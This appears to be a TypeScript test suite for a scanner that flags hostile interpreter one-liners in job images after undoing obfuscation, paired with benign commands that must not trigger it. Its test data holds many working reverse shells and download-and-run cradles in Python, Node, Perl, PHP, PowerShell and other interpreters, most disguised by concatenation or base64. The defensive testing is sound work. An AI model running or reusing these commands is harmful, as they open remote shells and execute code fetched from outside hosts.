import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { foldCode } from '../src/commands/code-folding.ts';
import { commandFindings, containerPath } from './indicator-helpers.ts';

/**
 * Interpreter one-liners are judged after folding: names built by concatenation, character codes,
 * joins, reversals, variables and literal decoding, in every interpreter a job image may carry.
 */

const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
/** PowerShell's -EncodedCommand: base64 of UTF-16LE. */
const encodedCommand = (text: string) => Buffer.from(text, 'utf16le').toString('base64');

function messages(indicator: string, command: string[]): string[] {
  return commandFindings(indicator, command).map((finding) => finding.message);
}

function assertCaught(command: string[], message: RegExp, indicator = 'shell-escape'): void {
  const found = messages(indicator, command);
  assert.ok(found.some((text) => message.test(text)), `${JSON.stringify(command)} gave ${JSON.stringify(found)}`);
}

const PY_REVERSE = "import socket,subprocess;s=socket.create_connection(('10.0.0.1',4242));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())";
const NODE_NC = 'require("child_process").exec("nc -e /bin/sh 10.0.0.1 4242")';
const PS_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";

const CAUGHT: Array<[string, string[], RegExp, string?]> = [
  // python
  ['python module names by concatenation', ['python3', '-c', "s=__import__('soc'+'ket').socket();s.connect(('10.0.0.1',4242));__import__('o'+'s').dup2(s.fileno(),0);__import__('p'+'ty').spawn('sh')"], /reverse-shell one-liner/],
  ['python module names from chr() joins', ['python3', '-c', "m=__import__(''.join(map(chr,[115,111,99,107,101,116])));p=__import__(''.join(chr(c) for c in (112,116,121)));s=m.create_connection(('10.0.0.1',4242));p.spawn('sh')"], /reverse-shell one-liner/],
  ['python importlib with split names', ['python3', '-c', "import importlib as i;s=i.import_module('so'+'cket');i.import_module('subpro'+'cess').call(['sh'],stdin=s.create_connection(('h',1)).fileno())"], /reverse-shell one-liner/],
  ['python names kept in variables', ['python3', '-c', "a='sock';b='et';c='subpro';d='cess';s=__import__(a+b);__import__(c+d).call(['sh'],stdin=s.create_connection(('h',1)).fileno())"], /reverse-shell one-liner/],
  ['python reversed name', ['python', '-c', "s=__import__('tekcos'[::-1]).create_connection(('h',1));__import__('ytp'[::-1]).spawn('/bin/sh')"], /reverse-shell one-liner/],
  ['python exec of a base64 reverse shell', ['python3', '-c', `exec(__import__('base64').b64decode('${b64(PY_REVERSE)}'))`], /reverse-shell one-liner/],
  ['python exec(urlopen(...).read())', ['python3', '-c', "from urllib.request import urlopen;exec(urlopen('http://198.51.100.7/s.py').read())"], /evaluates code it fetches/],
  ['python requests + exec', ['python3', '-c', "import requests;exec(requests.get('http://198.51.100.7/s').text)"], /evaluates code it fetches/],
  ['python os.system of a concatenated download', ['python3', '-c', "import os;os.system('cu'+'rl -s http://198.51.100.7/p | s'+'h')"], /download piped/],
  // node
  ['node require("n"+"et") with child_process', ['node', '-e', 'var n=require("n"+"et"),c=require("child_"+"process"),s=c.spawn("/bin/sh",[]),k=new n.Socket();k.connect(4242,"10.0.0.1",function(){k.pipe(s.stdin);s.stdout.pipe(k)})'], /reverse-shell one-liner/],
  ['node child_process through a joined name', ['node', '-e', 'const cp=require(["child","process"].join("_"));cp.execSync("curl -s http://198.51.100.7/x|sh")'], /download piped/],
  ['node String.fromCharCode module name', ['node', '-e', 'require(String.fromCharCode(110,101,116)).connect(4242,"h").pipe(require("child_process").spawn("sh").stdin)'], /reverse-shell one-liner/],
  ['node eval of a base64 Buffer', ['node', '-e', `eval(Buffer.from("${b64(NODE_NC)}","base64").toString())`], /netcat with -e/],
  ['node fetch then eval', ['node', '-e', 'fetch("http://198.51.100.7/x.js").then(r=>r.text()).then(eval)'], /evaluates code it fetches/],
  // perl, ruby, php, lua
  ['perl IO::Socket::INET', ['perl', '-MIO::Socket::INET', '-e', '$c=IO::Socket::INET->new(PeerAddr=>"10.0.0.1:4242");open(STDIN,"<&",$c);open(STDOUT,">&",$c);exec("/bin/sh")'], /reverse-shell one-liner/],
  ['perl module name by concatenation', ['perl', '-e', '$m="IO::"."Sock"."et::INET";eval "require $m";$c=$m->new("10.0.0.1:4242");system("sh <&".fileno($c))'], /reverse-shell one-liner/],
  ['perl eval of LWP get', ['perl', '-MLWP::Simple', '-e', 'eval get("http://198.51.100.7/x.pl")'], /evaluates code it fetches/],
  ['ruby TCPSocket and spawn', ['ruby', '-rsocket', '-e', 'c=TCPSocket.new("10.0.0.1",4242);spawn("sh",[:in,:out,:err]=>c)'], /reverse-shell one-liner/],
  ['ruby eval of URI.open', ['ruby', '-ropen-uri', '-e', 'eval URI.open("http://198.51.100.7/x.rb").read'], /evaluates code it fetches/],
  ['php fsockopen and proc_open', ['php', '-r', '$s=fsockopen("10.0.0.1",4242);proc_open("sh",[0=>$s,1=>$s,2=>$s],$p);'], /reverse-shell one-liner/],
  ['php function names by concatenation', ['php', '-r', '$f="fsock"."open";$s=$f("10.0.0.1",4242);$e="ex"."ec";$e("sh <&3 >&3 2>&3");'], /reverse-shell one-liner/],
  ['php eval of file_get_contents', ['php', '-r', 'eval(file_get_contents("http://198.51.100.7/x.php"));'], /evaluates code it fetches/],
  ['lua socket by concatenation and io.popen', ['lua', '-e', 'local s=require("soc".."ket").tcp();s:connect("10.0.0.1",4242);while true do local c=s:receive();local f=io.popen(c,"r");s:send(f:read("*a"));f:close() end'], /reverse-shell one-liner/],
  // awk, zsh, openssl
  ['gawk /inet/tcp split in two strings', ['gawk', 'BEGIN{s="/inet/tc" "p/0/10.0.0.1/4242";while((s|&getline c)>0){while((c|getline l)>0)print l|&s;close(c)}}'], /reverse-shell one-liner/],
  ['awk system() of a download piped into sh', ['awk', 'BEGIN{system("curl -s http://198.51.100.7/p | sh")}'], /download piped/],
  ['awk printing into a shell', ['awk', 'BEGIN{print "nc -e /bin/sh 10.0.0.1 4242" | "sh"}'], /netcat with -e/],
  ['zsh ztcp', ['zsh', '-c', 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'], /ztcp\/zsocket/],
  ['openssl s_client piped into a shell', ['sh', '-c', 'openssl s_client -quiet -connect 10.0.0.1:443 | /bin/bash 2>&1 | openssl s_client -quiet -connect 10.0.0.1:444'], /download piped/],
  // PowerShell
  ['PowerShell IEX DownloadString cradle', ['pwsh', '-NoP', '-NonI', '-W', 'Hidden', '-Command', PS_CRADLE], /evaluates code it fetches/],
  ['PowerShell cradle with concatenated names', ['powershell.exe', '-c', "&('I'+'EX') (New-Object ('Net.'+'WebClient')).('Down'+'loadString').Invoke('http://198.51.100.7/a')"], /evaluates code it fetches/],
  ['PowerShell with backtick escapes and -f', ['powershell', "I`E`X (New-Object Net.WebClient).(\"{1}{0}\" -f 'String','Download').Invoke('http://198.51.100.7/a')"], /evaluates code it fetches/],
  ['PowerShell iwr | iex', ['pwsh', '-c', 'iwr http://198.51.100.7/a.ps1 -UseBasicParsing | iex'], /evaluates code it fetches/],
  ['PowerShell -EncodedCommand cradle', ['powershell', '-NoProfile', '-enc', encodedCommand(PS_CRADLE)], /evaluates code it fetches/],
  ['PowerShell TCPClient reverse shell', ['pwsh', '-c', '$c=New-Object System.Net.Sockets.TCPClient("10.0.0.1",4242);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String)}'], /reverse-shell one-liner/],
  // obfuscated-execution
  ['python exec of zlib-compressed code', ['python3', '-c', "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJxLzs8tKEotLk5NAQALtAL9')))"], /runs code it decodes \(base64\)/, 'obfuscated-execution'],
  ['python exec of a decoded literal', ['python3', '-c', `exec(__import__('base64').b64decode('${b64(PY_REVERSE)}'))`], /runs code it decodes \(base64\)/, 'obfuscated-execution'],
  ['node eval of a decoded Buffer', ['node', '-e', `eval(Buffer.from("${b64(NODE_NC)}","base64").toString())`], /runs code it decodes/, 'obfuscated-execution'],
  ['PowerShell -EncodedCommand', ['pwsh', '-EncodedCommand', encodedCommand('Write-Output hello')], /runs code it decodes \(base64, the command's own encoding\)/, 'obfuscated-execution'],
  ['PowerShell FromBase64String into iex', ['pwsh', '-c', 'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:P)))'], /runs code it decodes \(FromBase64String\)/, 'obfuscated-execution'],
];

describe('interpreter one-liners are caught after folding', () => {
  for (const [name, command, message, indicator] of CAUGHT) test(name, () => assertCaught(command, message, indicator));
});

const HONEST: Array<[string, string[]]> = [
  ['python json', ['python3', '-c', "import json; print(json.dumps({'ok': True}))"]],
  ['python health check over urllib, nothing evaluated', ['python3', '-c', "import json,urllib.request;print(json.load(urllib.request.urlopen('https://api.internal/health'))['status'])"]],
  ['python re.compile is not compile()', ['python3', '-c', "import re,urllib.request;print(re.compile('ok').search(urllib.request.urlopen('https://api.internal/').read().decode()))"]],
  ['node version', ['node', '-e', 'console.log(process.version)']],
  ['node https health check', ['node', '-e', 'require("https").get("https://api.internal/health", r => process.exit(r.statusCode === 200 ? 0 : 1))']],
  ['perl substitution', ['perl', '-pe', 's/a/b/', '/etc/app.conf']],
  ['perl grep', ['perl', '-ne', 'print if /ERROR/', '/var/log/app.log']],
  ['ruby version', ['ruby', '-e', 'puts RUBY_VERSION']],
  ['php version', ['php', '-r', 'echo PHP_VERSION;']],
  ['lua version', ['lua', '-e', 'print(_VERSION)']],
  ['awk first column', ['awk', '{print $1}', '/data/access.log']],
  ['awk over a download it only reads', ['bash', '-c', "awk -F: '{print $1}' <(curl -s https://api.internal/users)"]],
  ['zsh loading another module', ['zsh', '-c', 'zmodload zsh/datetime; echo $EPOCHSECONDS']],
  ['openssl certificate dates', ['sh', '-c', 'openssl s_client -connect api.internal:443 </dev/null | openssl x509 -noout -dates']],
  ['openssl expiry check with SNI', ['sh', '-c', 'echo | openssl s_client -servername example.com -connect example.com:443 2>/dev/null | openssl x509 -noout -enddate']],
  ['PowerShell listing', ['pwsh', '-NoProfile', '-Command', 'Get-ChildItem /data | Measure-Object']],
  ['PowerShell download to a file', ['pwsh', '-Command', 'Invoke-WebRequest -Uri https://example.com/setup.zip -OutFile /tmp/setup.zip']],
  ['PowerShell script file', ['pwsh', '-File', '/scripts/report.ps1']],
];

describe('honest one-liners stay quiet', () => {
  for (const [name, command] of HONEST) {
    test(name, () => {
      assert.deepEqual(messages('shell-escape', command), []);
      assert.deepEqual(messages('obfuscated-execution', command), []);
    });
  }
});

describe('one-liner findings', () => {
  test('a decoded one-liner carries the decoded code as evidence', () => {
    const [finding] = commandFindings('shell-escape', ['sh', '-c', `python3 -c "exec(__import__('base64').b64decode('${b64(PY_REVERSE)}'))"`]).filter((f) => /reverse-shell/.test(f.message));
    assert.equal(finding.path, containerPath('command', 2));
    assert.ok(finding.evidence.includes('# decoded: ' + PY_REVERSE), finding.evidence);
  });

  test('a shell command inside decoded code is reported as from a decoded payload', () => {
    const [finding] = commandFindings('shell-escape', ['node', '-e', `eval(Buffer.from("${b64(NODE_NC)}","base64").toString())`]).filter((f) => /netcat/.test(f.message));
    assert.match(finding.message, /in a payload it decodes \(base64\)/);
    assert.equal(finding.evidence, 'nc -e /bin/sh 10.0.0.1 4242');
  });

  test('PowerShell -EncodedCommand evidence shows the decoded command', () => {
    const [finding] = commandFindings('shell-escape', ['powershell', '-enc', encodedCommand(PS_CRADLE)]);
    assert.ok(finding.evidence.endsWith('# decoded: ' + PS_CRADLE.replace(/'/g, "'")), finding.evidence);
  });
});

describe('foldCode', () => {
  const folded = (family: Parameters<typeof foldCode>[0], code: string) => foldCode(family, code).text;
  test('concatenation in each family', () => {
    assert.equal(folded('python', "__import__('soc' + \"ket\")"), "__import__('socket')");
    assert.equal(folded('perl', '"IO::" . "Socket"'), "'IO::Socket'");
    assert.equal(folded('lua', '"soc".."ket"'), "'socket'");
    assert.equal(folded('awk', '"/inet/" "tcp/"'), "'/inet/tcp/'");
    assert.equal(folded('powershell', "'Down'+'loadString'"), "'DownloadString'");
  });
  test('a method on the second string binds first', () => {
    assert.equal(folded('python', "'a' + 'b'.upper()"), "'a' + 'b'.upper()");
    assert.equal(folded('node', '"a" + "b".repeat(2)'), "'a' + 'b'.repeat(2)");
  });
  test('a variable assigned twice is not substituted', () => {
    assert.equal(folded('python', "m='soc'\nm='x'\nprint(m+'ket')"), "m='soc'\nm='x'\nprint(m+'ket')");
  });
  test('escapes are resolved and the result re-quoted', () => {
    assert.equal(folded('python', "'\\x73ock' + 'et'"), "'socket'");
    assert.equal(folded('python', "r'\\x73'"), "'\\\\x73'");
  });
  test('decoded payloads are appended and listed', () => {
    const result = foldCode('python', `exec(b64decode('${b64('import os')}'))`);
    assert.deepEqual(result.decoded, [{ encoding: 'base64', text: 'import os' }]);
    assert.ok(result.text.endsWith('\nimport os'));
  });
  test('hostile input stays bounded: long chains, unclosed quotes, deep nesting', () => {
    assert.equal(folded('node', '"a"+'.repeat(10_000) + '"b"').length, 10_003);
    assert.equal(folded('python', "'unclosed + 'x"), "'unclosed + 'x");
    let nested = 'print(1)';
    for (let depth = 0; depth < 10; depth++) nested = `exec(b64decode('${b64(nested)}'))`;
    assert.ok(foldCode('python', nested).decoded.length > 0);
  });
});
